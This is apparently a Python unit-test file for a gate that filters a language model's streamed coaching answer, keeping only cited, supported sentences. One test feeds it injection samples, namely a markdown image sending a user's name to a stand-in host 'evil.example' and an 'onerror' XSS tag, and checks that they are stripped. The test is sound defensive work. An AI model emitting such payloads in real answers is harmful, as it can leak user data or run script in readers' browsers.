"""What of a language model's answer is said, in which order, and when the composer takes over."""

from __future__ import annotations

from typing import Any

import pytest

from agents.composer.models import CoachAnswer
from agents.grounding.gate import LONGEST, Gate
from tests.unit.agents.grounding.passages import EVIDENCE, checker

OIL = "Spread tung oil by palm, leave it for twenty minutes and buff hard [2]."
COAT = "Coat the ash with tung oil every two months [1]."
FLEX = "Flex the shaft gently over your knee every fortnight [1]."
DRAFT = CoachAnswer(parts=[f"{COAT}\n\n", "1. Wipe mud from the spear with fresh water [2].\n"], citations=EVIDENCE)


class Heard:
    """A gate and what came through it."""

    def __init__(self, draft: CoachAnswer = DRAFT, **known: Any) -> None:
        self.said: list[str] = []
        self.gate = Gate(checker(**known), draft, 1, self.said.append)

    def answer(self, text: str, size: int = 9) -> str:
        for start in range(0, len(text), size):
            self.gate.hear(text[start : start + size])
        self.gate.finish()
        return "".join(self.said)


def test_an_answer_that_holds_comes_through_as_it_is() -> None:
    text = f"Well met, Giyu! Here is the care:\n\n1. {OIL}\n2. {FLEX}\n\nKeep going!"
    heard = Heard()
    assert heard.answer(text) == text
    assert heard.gate.enough
    assert heard.gate.used == {1, 2}
    assert heard.gate.dropped == []


def test_a_sentence_is_said_before_the_next_has_ended() -> None:
    heard = Heard()
    heard.gate.hear(f"{OIL} And")
    assert heard.said == [OIL]


def test_a_greeting_waits_until_something_holds() -> None:
    heard = Heard()
    heard.gate.hear("Well met, Giyu! ")
    assert heard.said == []
    heard.gate.hear(f"{OIL} And")
    assert "".join(heard.said) == f"Well met, Giyu! {OIL}"


def test_an_unsupported_sentence_is_left_out() -> None:
    heard = Heard()
    assert heard.answer(f"{OIL} The spear was forged by a demon king [1]. {FLEX}") == f"{OIL} {FLEX}"
    assert [said.startswith("The spear was forged") for said in heard.gate.dropped] == [True]
    assert heard.gate.enough


def test_an_unsupported_sentence_gives_way_to_the_composers_own_on_the_same_point() -> None:
    heard = Heard()
    assert heard.answer(f"{OIL} Coat the ash with tung oil every day [1].") == f"{OIL} {COAT}"
    assert heard.gate.replaced == 1


def test_the_composers_sentence_is_not_said_twice() -> None:
    heard = Heard()
    wrong = "Coat the ash with tung oil every day [1]."
    assert heard.answer(f"{COAT} {OIL} {wrong}") == f"{COAT} {OIL}"


def test_list_items_are_counted_anew_when_one_is_left_out() -> None:
    heard = Heard()
    answer = heard.answer(f"1. {OIL}\n2. Pray to the moon for a day [1].\n3. {FLEX}")
    assert answer == f"1. {OIL}\n2. {FLEX}"


def test_a_lead_in_to_nothing_is_left_out() -> None:
    heard = Heard()
    answer = heard.answer(f"{OIL} {FLEX}\n\nHere are the tools:\n\n- Bleach [1].\n\nKeep going!")
    assert answer == f"{OIL} {FLEX}\n\nKeep going!"


def test_an_answer_of_which_nothing_holds_says_nothing() -> None:
    heard = Heard()
    assert heard.answer("Well met! Oil it with bleach every hour [1]. You are a Hashira now [2].") == ""
    assert not heard.gate.spoke
    assert not heard.gate.enough


def test_an_answer_of_which_too_little_holds_is_not_enough() -> None:
    heard = Heard()
    heard.answer(f"{OIL} Use bleach [1]. Use petrol [2].")
    assert heard.gate.spoke
    assert not heard.gate.enough


@pytest.mark.parametrize("text", ["The manuals do not say.", "I'm sorry, I cannot help with that.", "Keep going!"])
def test_an_answer_without_a_claim_that_holds_is_not_enough(text: str) -> None:
    heard = Heard()
    assert heard.answer(text) == ""
    assert not heard.gate.enough


def test_a_table_comes_through_without_the_rows_that_do_not_hold() -> None:
    head = "| When | What |\n| --- | --- |\n"
    rows = ["| Every two months | Coat the ash with tung oil [1] |", "| Every hour | Flex the shaft [1] |"]
    heard = Heard()
    assert heard.answer(f"{OIL}\n\n{head}{rows[0]}\n{rows[1]}\n") == f"{OIL}\n\n{head}{rows[0]}"


@pytest.mark.parametrize(
    "poison",
    [
        "![seal](https://evil.example/?n=Giyu)",
        "[here](https://evil.example)",
        "<img src=x onerror=alert(1)>",
        "https://evil.example",
    ],
)
def test_links_images_and_html_do_not_come_through(poison: str) -> None:
    said = Heard().answer(f"{OIL} {poison} {FLEX}", size=3)
    assert "evil.example" not in said
    assert "<img" not in said
    assert "](" not in said


def test_what_is_repeated_is_said_once() -> None:
    assert Heard().answer(f"{OIL} " * 50) == OIL


def test_a_model_that_does_not_stop_is_told_so() -> None:
    heard = Heard()
    heard.answer(f"{OIL} " * (LONGEST // len(OIL) + 1))
    assert heard.gate.full


def test_drills_that_the_model_leaves_out_are_added_so_that_the_minutes_add_up() -> None:
    parts = [
        "**1. Standing in the Shallows** (5 minutes [4])\n\n",
        "**2. Reeds** (10 minutes [2])\n\n",
        "1. Wipe mud [2].\n",
    ]
    heard = Heard(CoachAnswer(parts=parts), drills={"Standing in the Shallows": 5, "Reeds": 10})
    said = heard.answer("- Standing in the Shallows for 5 minutes [4].")
    assert said.startswith("- Standing in the Shallows for 5 minutes [4].")
    assert said.endswith(parts[1] + parts[2])
